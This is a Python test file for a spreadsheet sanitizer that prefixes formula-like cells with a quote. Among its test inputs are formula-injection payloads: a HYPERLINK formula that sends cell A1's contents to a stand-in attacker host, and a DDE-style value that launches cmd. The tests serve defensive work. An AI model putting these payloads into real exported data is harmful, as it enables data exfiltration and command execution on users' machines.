"""Cells a spreadsheet would run as formulas are shown as text; numbers and a lone '-' stay."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from steward.spreadsheet import FORMULA_STARTS, formula_safe


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example?"&A1,"click")',
        "=1+1",
        "@SUM(A1:A2)",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "-john@example.org",
        "+44 20 7946 0000",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "--",
        "+",
    ],
)
def test_a_cell_that_begins_like_a_formula_gains_a_leading_quote(cell: str) -> None:
    assert formula_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12.5", "+447700900123", "-1e3", "+.5", "-", "", "ann", "0"])
def test_plain_numbers_a_lone_dash_and_ordinary_text_are_kept(cell: str) -> None:
    assert formula_safe(cell) == cell


@given(st.text(max_size=20))
def test_no_safe_cell_begins_with_a_formula_character_unless_it_is_a_number_or_a_dash(
    cell: str,
) -> None:
    safe = formula_safe(cell)
    assert safe in (cell, "'" + cell)
    if safe and safe[0] in FORMULA_STARTS:
        assert safe == "-" or float(safe) == float(safe)


def test_only_ascii_digits_make_a_plain_number() -> None:
    assert formula_safe("-\u0663") == "'-\u0663"  # Arabic-Indic three: not a number a sheet reads
